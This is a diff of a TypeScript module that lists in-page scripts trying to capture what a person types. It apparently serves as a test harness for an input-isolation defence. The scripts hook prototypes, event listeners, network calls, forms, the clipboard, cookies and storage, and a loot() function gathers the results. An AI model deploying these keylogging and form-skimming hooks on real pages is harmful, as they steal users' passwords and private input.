@@ -1,344 +1,274 @@
 /*
- * What a script of the page can do to learn what a person types. Each attack runs in the page, before every other script, and
- * knows nothing but what it is handed.
+ * How a script of the page can try to learn what a person types. Each attack runs in the page, before all other scripts, and
+ * uses only its arguments.
  */
 
-/** Keeps the text, or the texts, that an attack came by: itself, or in what is called for it. */
+/** Keeps the text, or the texts, that an attack found, or that the given function returns. */
 type Take = (value: unknown) => void;
-/** All texts in a tree: values, attributes, text, in open roots and in frames that can be read, too. */
+/** All texts in a tree: values, attributes and text, also in open shadow roots and in readable frames. */
 type TextsIn = (root: Node) => readonly string[];
 
-export interface Attack {
-  readonly name: string;
-  /** What it answers is called whenever fields are filled. */
-  readonly install: (take: Take, textsIn: TextsIn) => (() => void) | undefined;
-}
+/** If it returns a function, that is called whenever fields are filled. */
+type Attack = (take: Take, textsIn: TextsIn) => unknown;
+export type Attacks = Readonly<Record<string, Attack>>;
 
-/** Each finds what is typed on the page. */
-const readers: readonly Attack[] = [
-  {
-    name: 'walks every root and every frame',
-    install: (take, textsIn) => () => take(() => textsIn(document)),
+/** Each of these finds text that is typed on the page. */
+const readers: Attacks = {
+  'walks every root and every frame': (take, textsIn) => () => take(() => textsIn(document)),
+  'keeps every root that is made': (take, textsIn) => {
+    const roots: ShadowRoot[] = [];
+    const { attachShadow } = Element.prototype;
+    Element.prototype.attachShadow = function (init) {
+      const root = attachShadow.call(this, init);
+      roots.push(root);
+      return root;
+    };
+    return () => take(() => roots.flatMap(textsIn));
   },
-  {
-    name: 'keeps every root that is made',
-    install: (take, textsIn) => {
-      const roots: ShadowRoot[] = [];
-      const { attachShadow } = Element.prototype;
-      Element.prototype.attachShadow = function (init) {
-        const root = attachShadow.call(this, init);
-        roots.push(root);
-        return root;
-      };
-      return () => take(() => roots.flatMap(textsIn));
-    },
+  'observes every change of every root': (take, textsIn) => {
+    const observer = new MutationObserver((records) =>
+      take(() =>
+        records.flatMap(({ target, removedNodes }) => [target.getRootNode(), ...removedNodes].flatMap(textsIn)),
+      ),
+    );
+    const observe = (root: Node) =>
+      observer.observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
+    const { attachShadow } = Element.prototype;
+    Element.prototype.attachShadow = function (init) {
+      const root = attachShadow.call(this, init);
+      observe(root);
+      return root;
+    };
+    observe(document);
   },
-  {
-    name: 'observes every change of every root',
-    install: (take, textsIn) => {
-      const observer = new MutationObserver((records) =>
-        take(() =>
-          records.flatMap(({ target, removedNodes }) => [target.getRootNode(), ...removedNodes].flatMap(textsIn)),
-        ),
+  'listens to everything on its way in': (take) => {
+    let keys = '';
+    const types =
+      'keydown keypress keyup beforeinput input change compositionupdate focusin focusout selectionchange pointerdown';
+    for (const type of types.split(' '))
+      addEventListener(
+        type,
+        (event) => {
+          take(() => (event.composedPath()[0] as HTMLInputElement).value);
+          take(() => (event as InputEvent).data);
+          const { key, ctrlKey } = event as Partial<KeyboardEvent>;
+          if (type === 'keydown' || type === 'pointerdown') keys += key?.length === 1 && !ctrlKey ? key : '\n';
+        },
+        true,
       );
-      const observe = (root: Node) =>
-        observer.observe(root, { subtree: true, childList: true, attributes: true, characterData: true });
-      const { attachShadow } = Element.prototype;
-      Element.prototype.attachShadow = function (init) {
-        const root = attachShadow.call(this, init);
-        observe(root);
-        return root;
-      };
-      observe(document);
-      return undefined;
-    },
+    return () => take(keys);
   },
-  {
-    name: 'listens to everything on its way in',
-    install: (take) => {
-      let keys = '';
-      const types =
-        'keydown keypress keyup beforeinput input change compositionupdate focusin focusout selectionchange pointerdown';
-      for (const type of types.split(' '))
-        addEventListener(
-          type,
-          (event) => {
-            take(() => (event.composedPath()[0] as HTMLInputElement).value);
-            take(() => (event as InputEvent).data);
-            const { key, ctrlKey } = event as Partial<KeyboardEvent>;
-            if (type === 'keydown' || type === 'pointerdown') keys += key?.length === 1 && !ctrlKey ? key : '\n';
-          },
-          true,
-        );
-      return () => take(keys);
-    },
+  'listens wherever anybody listens': (take) => {
+    const { addEventListener } = EventTarget.prototype;
+    const hear = (event: Event) => take(() => (event.target as Partial<HTMLInputElement> | null)?.value);
+    EventTarget.prototype.addEventListener = function (type, listener, options) {
+      addEventListener.call(this, type, hear, options);
+      addEventListener.call(this, type, listener, options);
+    };
   },
-  {
-    name: 'listens wherever anybody listens',
-    install: (take) => {
-      const { addEventListener } = EventTarget.prototype;
-      const hear = (event: Event) => take(() => (event.target as Partial<HTMLInputElement> | null)?.value);
-      EventTarget.prototype.addEventListener = function (type, listener, options) {
-        addEventListener.call(this, type, hear, options);
-        addEventListener.call(this, type, listener, options);
-      };
-      return undefined;
-    },
-  },
-  {
-    name: 'stands between events and those who read them',
-    install: (take) => {
-      const members: readonly (readonly [object, string])[] = [
-        [Event.prototype, 'target'],
-        [Event.prototype, 'currentTarget'],
-        [InputEvent.prototype, 'data'],
-        [KeyboardEvent.prototype, 'key'],
-      ];
-      for (const [prototype, name] of members) {
-        const { get } = Object.getOwnPropertyDescriptor(prototype, name)!;
-        Object.defineProperty(prototype, name, {
-          configurable: true,
-          get(this: Event) {
-            const value: unknown = get?.call(this);
-            take(() => (value as Partial<HTMLInputElement> | null)?.value);
-            take(value);
-            return value;
-          },
-        });
-      }
-      return undefined;
-    },
-  },
-  {
-    name: 'stands between inputs and those who read or write them',
-    install: (take) => {
-      const { prototype } = HTMLInputElement;
-      const { get, set } = Object.getOwnPropertyDescriptor(prototype, 'value')!;
-      Object.defineProperty(prototype, 'value', {
+  'stands between events and those who read them': (take) => {
+    const members: readonly (readonly [object, string])[] = [
+      [Event.prototype, 'target'],
+      [Event.prototype, 'currentTarget'],
+      [InputEvent.prototype, 'data'],
+      [KeyboardEvent.prototype, 'key'],
+    ];
+    for (const [prototype, name] of members) {
+      const { get } = Object.getOwnPropertyDescriptor(prototype, name)!;
+      Object.defineProperty(prototype, name, {
         configurable: true,
-        get(this: HTMLInputElement) {
+        get(this: Event) {
           const value: unknown = get?.call(this);
+          take(() => (value as Partial<HTMLInputElement> | null)?.value);
           take(value);
           return value;
         },
-        set(this: HTMLInputElement, value: string) {
-          take(value);
-          set?.call(this, value);
-        },
       });
-      const { setSelectionRange } = prototype;
-      prototype.setSelectionRange = function (...range) {
-        take(() => get?.call(this) as unknown);
-        setSelectionRange.apply(this, range);
-      };
-      return undefined;
-    },
+    }
   },
-  {
-    name: 'patches what every script is built on',
-    install: (take) => {
-      const patch = (owner: object, ...names: readonly string[]) => {
-        for (const name of names) {
-          const own = (owner as Record<string, (...values: unknown[]) => unknown>)[name]!;
-          (owner as Record<string, unknown>)[name] = function (this: unknown, ...values: unknown[]) {
-            const result = own.apply(this, values);
-            for (const text of [this, ...values, result]) if (typeof text === 'string') take(text);
-            return result;
-          };
-        }
-      };
-      patch(String.prototype, 'replace', 'replaceAll', 'slice', 'split', 'trim', 'match', 'matchAll');
-      patch(RegExp.prototype, 'exec', 'test');
-      patch(Array.prototype, 'join', 'includes', 'push');
-      patch(Map.prototype, 'set', 'get');
-      patch(WeakMap.prototype, 'set', 'get');
-      patch(JSON, 'stringify', 'parse');
-      patch(TextEncoder.prototype, 'encode');
-      return undefined;
-    },
+  'stands between inputs and those who read or write them': (take) => {
+    const { prototype } = HTMLInputElement;
+    const { get, set } = Object.getOwnPropertyDescriptor(prototype, 'value')!;
+    Object.defineProperty(prototype, 'value', {
+      configurable: true,
+      get(this: HTMLInputElement) {
+        const value: unknown = get?.call(this);
+        take(value);
+        return value;
+      },
+      set(this: HTMLInputElement, value: string) {
+        take(value);
+        set?.call(this, value);
+      },
+    });
+    const { setSelectionRange } = prototype;
+    prototype.setSelectionRange = function (...range) {
+      take(() => get?.call(this) as unknown);
+      setSelectionRange.apply(this, range);
+    };
   },
-  {
-    name: 'stands at every door to the network',
-    install: (take) => {
-      const { fetch: ownFetch } = window;
-      window.fetch = (input, init) => {
+  'patches what every script is built on': (take) => {
+    const patch = (owner: object, ...names: readonly string[]) => {
+      for (const name of names) {
+        const own = (owner as Record<string, (...values: unknown[]) => unknown>)[name]!;
+        (owner as Record<string, unknown>)[name] = function (this: unknown, ...values: unknown[]) {
+          const result = own.apply(this, values);
+          for (const text of [this, ...values, result]) if (typeof text === 'string') take(text);
+          return result;
+        };
+      }
+    };
+    patch(String.prototype, 'replace', 'replaceAll', 'slice', 'split', 'trim', 'match', 'matchAll');
+    patch(RegExp.prototype, 'exec', 'test');
+    patch(Array.prototype, 'join', 'includes', 'push');
+    patch(Map.prototype, 'set', 'get');
+    patch(WeakMap.prototype, 'set', 'get');
+    patch(JSON, 'stringify', 'parse');
+    patch(TextEncoder.prototype, 'encode');
+  },
+  'stands at every door to the network': (take) => {
+    const { fetch: ownFetch } = window;
+    window.fetch = (input, init) => {
+      take(init?.body);
+      return ownFetch(input, init);
+    };
+    window.Request = class extends Request {
+      constructor(input: RequestInfo | URL, init?: RequestInit) {
         take(init?.body);
-        return ownFetch(input, init);
-      };
-      window.Request = class extends Request {
-        constructor(input: RequestInfo | URL, init?: RequestInit) {
-          take(init?.body);
-          super(input, init);
-        }
-      };
-      const doors: readonly (readonly [object, string])[] = [
-        [XMLHttpRequest.prototype, 'send'],
-        [XMLHttpRequest.prototype, 'open'],
-        [Navigator.prototype, 'sendBeacon'],
-        [WebSocket.prototype, 'send'],
-        [RTCDataChannel.prototype, 'send'],
-        [HTMLFormElement.prototype, 'submit'],
-      ];
-      for (const [door, name] of doors) {
-        const own = (door as Record<string, (...values: unknown[]) => unknown>)[name]!;
-        (door as Record<string, unknown>)[name] = function (this: unknown, ...values: unknown[]) {
-          values.forEach(take);
-          return own.apply(this, values);
-        };
+        super(input, init);
       }
-      return undefined;
-    },
-  },
-  {
-    name: 'hears every request in a worker',
-    install: (take) => {
-      void navigator.serviceWorker.register('worker.js');
-      navigator.serviceWorker.addEventListener('message', ({ data }) => take(data));
-      return undefined;
-    },
-  },
-  {
-    name: 'reads every form',
-    install: (take) => {
-      const read = (form: HTMLFormElement) => {
-        take(() => [...new FormData(form).values()]);
-        take(() => Array.from(form.elements, (element) => (element as HTMLInputElement).value));
+    };
+    const doors: readonly (readonly [object, string])[] = [
+      [XMLHttpRequest.prototype, 'send'],
+      [XMLHttpRequest.prototype, 'open'],
+      [Navigator.prototype, 'sendBeacon'],
+      [WebSocket.prototype, 'send'],
+      [RTCDataChannel.prototype, 'send'],
+      [HTMLFormElement.prototype, 'submit'],
+    ];
+    for (const [door, name] of doors) {
+      const own = (door as Record<string, (...values: unknown[]) => unknown>)[name]!;
+      (door as Record<string, unknown>)[name] = function (this: unknown, ...values: unknown[]) {
+        values.forEach(take);
+        return own.apply(this, values);
       };
-      const formsIn = (root: ParentNode): HTMLFormElement[] =>
-        Array.from(root.querySelectorAll('*')).flatMap((element) => [
-          ...(element instanceof HTMLFormElement ? [element] : []),
-          ...(element.shadowRoot ? formsIn(element.shadowRoot) : []),
-        ]);
-      return () => formsIn(document).forEach(read);
-    },
+    }
   },
-  {
-    name: 'follows the focus and the selection',
-    install: (take) => {
-      const follow = () => {
-        take(() => {
-          let active = document.activeElement;
-          while (active?.shadowRoot?.activeElement) active = active.shadowRoot.activeElement;
-          return [(active as Partial<HTMLInputElement> | null)?.value, String(getSelection())];
-        });
-        requestAnimationFrame(follow);
-      };
-      follow();
-      return undefined;
-    },
+  'hears every request in a worker': (take) => {
+    void navigator.serviceWorker.register('worker.js');
+    navigator.serviceWorker.addEventListener('message', ({ data }) => take(data));
   },
-  {
-    name: 'hears the clipboard',
-    install: (take) => {
-      for (const type of ['copy', 'cut', 'paste'])
-        addEventListener(
-          type,
-          (event) => {
-            take(() => [(event as ClipboardEvent).clipboardData?.getData('text'), String(getSelection())]);
-          },
-          true,
-        );
-      return undefined;
-    },
+  'reads every form': (take) => {
+    const read = (form: HTMLFormElement) => {
+      take(() => [...new FormData(form).values()]);
+      take(() => Array.from(form.elements, (element) => (element as HTMLInputElement).value));
+    };
+    const formsIn = (root: ParentNode): HTMLFormElement[] =>
+      Array.from(root.querySelectorAll('*')).flatMap((element) => [
+        ...(element instanceof HTMLFormElement ? [element] : []),
+        ...(element.shadowRoot ? formsIn(element.shadowRoot) : []),
+      ]);
+    return () => formsIn(document).forEach(read);
   },
-];
-
-/** Each finds nothing of a person, but what the page itself has left there: so they are known to look. */
-const searchers: readonly Attack[] = [
-  {
-    name: 'listens in at every channel',
-    install: (take) => {
-      const takeAll = (value: unknown) => take(() => JSON.stringify(value));
-      const hear = ({ data }: MessageEvent<unknown>) => takeAll(data);
-      addEventListener('message', hear, true);
-      const OwnChannel = MessageChannel;
-      window.MessageChannel = class extends OwnChannel {
-        constructor() {
-          super();
-          this.port1.addEventListener('message', hear);
-          this.port2.addEventListener('message', hear);
-        }
-      };
-      for (const owner of [MessagePort.prototype, BroadcastChannel.prototype, Worker.prototype, window]) {
-        const { postMessage } = owner as unknown as { postMessage: (...values: unknown[]) => void };
-        (owner as unknown as Record<string, unknown>).postMessage = function (this: unknown, ...values: unknown[]) {
-          takeAll(values[0]);
-          postMessage.apply(this, values);
-        };
-      }
-      return undefined;
-    },
-  },
-  {
-    name: 'reads windows, their names and addresses',
-    install: (take) => () => {
-      const framesIn = (root: ParentNode): (Window | null)[] =>
-        Array.from(root.querySelectorAll('*')).flatMap((element) => [
-          ...(element instanceof HTMLIFrameElement ? [element.contentWindow] : []),
-          ...(element.shadowRoot ? framesIn(element.shadowRoot) : []),
-        ]);
-      for (const other of [...framesIn(document), window, opener, parent, top]) {
-        take(() => (other as Window).name);
-        take(() => (other as Window).location.href);
-        take(() => JSON.stringify((other as Window).history.state));
-        take(() => (other as Window).document.title);
-      }
-    },
-  },
-  {
-    name: 'reads the addresses that were fetched',
-    install: (take) => {
-      new PerformanceObserver((list) => take(() => list.getEntries().map(({ name }) => name))).observe({
-        type: 'resource',
-        buffered: true,
+  'follows the focus and the selection': (take) => {
+    const follow = () => {
+      take(() => {
+        let active = document.activeElement;
+        while (active?.shadowRoot?.activeElement) active = active.shadowRoot.activeElement;
+        return [(active as Partial<HTMLInputElement> | null)?.value, String(getSelection())];
       });
-      return () => take(() => performance.getEntries().map((entry) => JSON.stringify(entry)));
-    },
+      requestAnimationFrame(follow);
+    };
+    follow();
   },
-  {
-    name: 'reads what is stored',
-    install: (take) => () => {
-      take(() => [localStorage, sessionStorage].map((storage) => JSON.stringify(Object.entries(storage))));
-      take(() => document.cookie);
-    },
+  'hears the clipboard': (take) => {
+    for (const type of ['copy', 'cut', 'paste'])
+      addEventListener(
+        type,
+        (event) => {
+          take(() => [(event as ClipboardEvent).clipboardData?.getData('text'), String(getSelection())]);
+        },
+        true,
+      );
   },
-  {
-    name: 'reads what is logged and what fails',
-    install: (take) => {
-      const { console: page } = window;
-      for (const name of ['log', 'info', 'warn', 'error', 'debug'] as const) {
-        const { [name]: own } = page;
-        page[name] = (...values: unknown[]) => {
-          take(() => values.map(String));
-          own.apply(page, values);
-        };
+};
+
+/** Each finds only what the page itself has left there, which shows that it looks in the right place. */
+const searchers: Attacks = {
+  'listens in at every channel': (take) => {
+    const takeAll = (value: unknown) => take(() => JSON.stringify(value));
+    const hear = ({ data }: MessageEvent<unknown>) => takeAll(data);
+    addEventListener('message', hear, true);
+    const OwnChannel = MessageChannel;
+    window.MessageChannel = class extends OwnChannel {
+      constructor() {
+        super();
+        this.port1.addEventListener('message', hear);
+        this.port2.addEventListener('message', hear);
       }
-      addEventListener('error', ({ message }) => take(message));
-      addEventListener('unhandledrejection', ({ reason }) => take(() => String(reason)));
-      return undefined;
-    },
-  },
-  {
-    name: 'reads what the elements and the events have',
-    install: (take) => {
-      const dispatch = EventTarget.prototype.dispatchEvent;
-      EventTarget.prototype.dispatchEvent = function (event) {
-        if (event instanceof CustomEvent) take(() => JSON.stringify(event.detail));
-        return dispatch.call(this, event);
+    };
+    for (const owner of [MessagePort.prototype, BroadcastChannel.prototype, Worker.prototype, window]) {
+      const { postMessage } = owner as unknown as { postMessage: (...values: unknown[]) => void };
+      (owner as unknown as Record<string, unknown>).postMessage = function (this: unknown, ...values: unknown[]) {
+        takeAll(values[0]);
+        postMessage.apply(this, values);
       };
-      return () => {
-        for (const element of document.querySelectorAll('*')) {
-          if (!element.localName.includes('-')) continue;
-          for (const name in element)
-            take(() => {
-              const value: unknown = element[name as keyof Element];
-              return typeof value === 'object' && !(value instanceof Node) ? JSON.stringify(value) : value;
-            });
-        }
-      };
-    },
+    }
   },
-];
+  'reads windows, their names and addresses': (take) => () => {
+    const framesIn = (root: ParentNode): (Window | null)[] =>
+      Array.from(root.querySelectorAll('*')).flatMap((element) => [
+        ...(element instanceof HTMLIFrameElement ? [element.contentWindow] : []),
+        ...(element.shadowRoot ? framesIn(element.shadowRoot) : []),
+      ]);
+    for (const other of [...framesIn(document), window, opener, parent, top]) {
+      take(() => (other as Window).name);
+      take(() => (other as Window).location.href);
+      take(() => JSON.stringify((other as Window).history.state));
+      take(() => (other as Window).document.title);
+    }
+  },
+  'reads the addresses that were fetched': (take) => {
+    new PerformanceObserver((list) => take(() => list.getEntries().map(({ name }) => name))).observe({
+      type: 'resource',
+      buffered: true,
+    });
+    return () => take(() => performance.getEntries().map((entry) => JSON.stringify(entry)));
+  },
+  'reads what is stored': (take) => () => {
+    take(() => [localStorage, sessionStorage].map((storage) => JSON.stringify(Object.entries(storage))));
+    take(() => document.cookie);
+  },
+  'reads what is logged and what fails': (take) => {
+    const { console: page } = window;
+    for (const name of ['log', 'info', 'warn', 'error', 'debug'] as const) {
+      const { [name]: own } = page;
+      page[name] = (...values: unknown[]) => {
+        take(() => values.map(String));
+        own.apply(page, values);
+      };
+    }
+    addEventListener('error', ({ message }) => take(message));
+    addEventListener('unhandledrejection', ({ reason }) => take(() => String(reason)));
+  },
+  'reads what the elements and the events have': (take) => {
+    const dispatch = EventTarget.prototype.dispatchEvent;
+    EventTarget.prototype.dispatchEvent = function (event) {
+      if (event instanceof CustomEvent) take(() => JSON.stringify(event.detail));
+      return dispatch.call(this, event);
+    };
+    return () => {
+      for (const element of document.querySelectorAll('*')) {
+        if (!element.localName.includes('-')) continue;
+        for (const name in element)
+          take(() => {
+            const value: unknown = element[name as keyof Element];
+            return typeof value === 'object' && !(value instanceof Node) ? JSON.stringify(value) : value;
+          });
+      }
+    };
+  },
+};
 
 export const attacks = { readers, searchers };
 
@@ -355,11 +285,13 @@ export const workerScript = `
 
 /** The script that a page with all the attacks begins with. */
 export const attackScript = `'use strict'; (${attack.toString()})([
-  ${[...readers, ...searchers].map(({ name, install }) => `[${JSON.stringify(name)}, ${install.toString()}]`).join(',')}
+  ${Object.entries({ ...readers, ...searchers })
+    .map(([name, install]) => `[${JSON.stringify(name)}, ${install.toString()}]`)
+    .join(',')}
 ]);`;
 
-/** Installs the attacks. `loot()` looks once more, and has what each has come by since the page was loaded. */
-function attack(all: readonly (readonly [Attack['name'], Attack['install']])[]): void {
+/** Installs the attacks. `loot()` runs them once more, and returns their findings since the page was loaded. */
+function attack(all: readonly (readonly [string, Attack])[]): void {
   const textsIn: TextsIn = (root) => {
     const elements = 'querySelectorAll' in root ? [...(root as ParentNode).querySelectorAll('*')] : [];
     return [
@@ -394,7 +326,7 @@ function attack(all: readonly (readonly [Attack['name'], Attack['install']])[]):
   });
   Object.assign(window, {
     loot: () => {
-      looks.forEach((look) => look?.());
+      for (const look of looks) if (typeof look === 'function') (look as () => void)();
       return taken.map(({ name, texts }) => [name, [...texts].join('\n')]);
     },
   });
